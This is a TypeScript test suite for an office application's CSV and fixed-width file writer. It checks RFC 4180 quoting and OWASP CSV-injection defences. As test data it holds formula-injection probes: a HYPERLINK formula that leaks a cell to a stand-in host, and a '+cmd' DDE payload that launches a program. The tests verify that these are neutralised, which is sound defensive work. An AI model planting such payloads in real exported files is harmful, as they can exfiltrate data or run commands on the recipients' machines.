/**
 * The shared writer of CSV and fixed-width files (core/files/delimited.ts): RFC 4180 quoting and
 * OWASP's CSV-injection rule for text cells, numbers typed as numbers so they are never quoted.
 * Every file the office writes is read back here with csv-parse, as a vendor's program would.
 */
import { parse } from 'csv-parse/sync';
import { readdirSync, readFileSync } from 'node:fs';
import { join, relative, resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import { csvCell, csvFile, csvRow, decimalCell, fixedTextField, neutraliseFormula } from '../../src-main/core/files/delimited';

const DANGEROUS_LEADS = ['=', '+', '-', '@', '\t', '\r'];

describe('OWASP formula rule for text cells', () => {
  it.each(DANGEROUS_LEADS)('prefixes a text cell starting with %j with a single quote', (lead) => {
    expect(neutraliseFormula(`${lead}1+1`)).toBe(`'${lead}1+1`);
    // Read back by a CSV parser, the cell is the quoted text: nothing starts with the lead (a tab or CR
    // lead is then folded to a space, behind the quote).
    expect(parse(csvRow([`${lead}1+1`]))).toEqual([[`'${lead.replace(/[\t\r]/, ' ')}1+1`]]);
  });

  it('leaves text that starts any other way alone, the quote included', () => {
    for (const text of ['Ana Reader', '1 Elm St', "'=already quoted", ' =1', '(209) 555-0100', '', '5/8"']) expect(neutraliseFormula(text)).toBe(text);
  });

  it('writes the issue\'s three probes as text a spreadsheet will not run', () => {
    expect(csvCell('=HYPERLINK("http://x/?"&A1,"Pay here")')).toBe('"\'=HYPERLINK(""http://x/?""&A1,""Pay here"")"');
    expect(csvCell('@SUM(1+1)')).toBe("'@SUM(1+1)");
    expect(csvCell("+cmd|' /C calc'!A0")).toBe("'+cmd|' /C calc'!A0");
  });
});

describe('RFC 4180 quoting', () => {
  it('quotes a cell with a comma, quote, semicolon or edge space, doubling quotes; leaves others bare', () => {
    expect(csvCell('Water service charge, 5/8" meter')).toBe('"Water service charge, 5/8"" meter"');
    expect(csvCell('a;=1+1')).toBe('"a;=1+1"');
    expect(csvCell(' padded')).toBe('" padded"');
    expect(csvCell('padded ')).toBe('"padded "');
    expect(csvCell('Ana Reader')).toBe('Ana Reader');
    expect(csvCell(null)).toBe('');
    expect(csvCell('')).toBe('');
  });

  it('folds a line break or tab inside a cell (and the spaces around it) to one space, so every row is one line', () => {
    expect(csvCell('line one\nline two')).toBe('line one line two');
    expect(csvCell('line one \r\n  =line two')).toBe('line one =line two');
    expect(csvCell('a\tb\u2028c\u0085d')).toBe('a b c d');
    expect(csvCell('Suite 5\n\n\tBuilding C, rear')).toBe('"Suite 5 Building C, rear"');
    const file = csvFile([['name', 'street'], ['Ana\nReader', '1 Elm St\tApt 2']]);
    expect(file.split('\r\n')).toEqual(['name,street', 'Ana Reader,1 Elm St Apt 2', '']);
    expect(file).not.toMatch(/[\t\n](?<!\r\n)/);
  });

  it('a neutralised cell that also needs quotes gets both: the quote mark inside the double quotes', () => {
    expect(csvCell('=1,2')).toBe(`"'=1,2"`);
    // The formula rule judges the cell as written, then the fold: a leading tab or line break keeps its quote.
    expect(csvCell('\tTabbed')).toBe(`' Tabbed`);
    expect(csvCell('\r\n=1+1')).toBe(`' =1+1`);
    expect(csvCell('-"x"')).toBe(`"'-""x"""`);
  });

  it('a file reads back, cell for cell, as the text written with the quote in front of a formula', () => {
    const rows = [
      ['name', 'street', 'amount', 'count'],
      ['=HYPERLINK("http://x/?"&A1,"Pay here")', 'line, "quoted"', decimalCell('-12.34'), 3],
      ['-12.34', '@x', decimalCell('0.00'), null],
    ];
    const file = csvFile(rows);
    expect(file.endsWith('\r\n')).toBe(true);
    expect(parse(file)).toEqual([
      ['name', 'street', 'amount', 'count'],
      ['\'=HYPERLINK("http://x/?"&A1,"Pay here")', 'line, "quoted"', '-12.34', '3'],
      ["'-12.34", "'@x", '0.00', ''],
    ]);
  });
});

describe('numeric cells', () => {
  it('writes numbers and formatted decimals as they are, never prefixed or quoted', () => {
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(0)).toBe('0');
    expect(csvCell(12_345)).toBe('12345');
    expect(csvCell(-9_007_199_254_740_993n)).toBe('-9007199254740993');
    expect(csvCell(decimalCell('-12.34'))).toBe('-12.34');
    expect(csvCell(decimalCell('001234.5'))).toBe('001234.5');
    expect(csvRow(['D', 4, null, 'a,b', decimalCell('-0.01')])).toBe('D,4,,"a,b",-0.01');
  });

  it('a negative number as text is quoted; the same number typed as a number is not', () => {
    expect(csvCell('-12.34')).toBe("'-12.34");
    expect(csvCell(decimalCell('-12.34'))).toBe('-12.34');
    expect(csvCell('-5')).toBe("'-5");
    expect(csvCell(-5)).toBe('-5');
  });

  it('refuses a decimal cell that is not a plain decimal, so a formula cannot pass as a number', () => {
    for (const text of ['=1+1', '-1+1', '+5', '1e3', '1,234', '', ' 5', '5.', '.5', '12.3.4']) {
      expect(() => decimalCell(text)).toThrow(/Invariant violated/);
    }
    expect(() => csvCell(Number.NaN)).toThrow(/Invariant violated/);
    expect(() => csvCell(Number.POSITIVE_INFINITY)).toThrow(/Invariant violated/);
  });
});

describe('fixed-width text fields', () => {
  it('neutralise, then cut to the width, then pad: the width holds and the quote survives the cut', () => {
    expect(fixedTextField('Ana', 5)).toBe('Ana  ');
    expect(fixedTextField('=1+1', 6)).toBe("'=1+1 ");
    expect(fixedTextField('=12345', 6)).toBe("'=1234");
    expect(fixedTextField('@', 1)).toBe("'");
    expect(fixedTextField('-', 3)).toBe("'- ");
    expect(fixedTextField('', 3)).toBe('   ');
    for (const lead of DANGEROUS_LEADS) expect(fixedTextField(`${lead}cmd`, 10)).toHaveLength(10);
  });
});

describe('one writer', () => {
  const ROOT = resolve(__dirname, '../..');
  /** Quote doubling that is not CSV: FTS5 phrase quoting in the account search. */
  const NOT_CSV = new Set(['src-main/core/accounts/search.ts']);
  const sources = (folder: string): string[] =>
    readdirSync(folder, { withFileTypes: true }).flatMap((entry) => {
      const path = join(folder, entry.name);
      if (entry.isDirectory()) return sources(path);
      return /\.tsx?$/.test(entry.name) ? [path] : [];
    });

  it('no module but core/files doubles quotes into a cell, so every CSV the office writes goes through it', () => {
    const doubling = /replaceAll\(\s*'"'\s*,\s*'""'\s*\)|replace\(\s*\/"\/g\s*,\s*'""'\s*\)/;
    const writers = [...sources(join(ROOT, 'src-main')), ...sources(join(ROOT, 'src-renderer'))]
      .map((path) => relative(ROOT, path).replaceAll('\\', '/'))
      .filter((path) => !NOT_CSV.has(path) && doubling.test(readFileSync(join(ROOT, path), 'utf8')));
    expect(writers).toEqual(['src-main/core/files/delimited.ts']);
  });
});
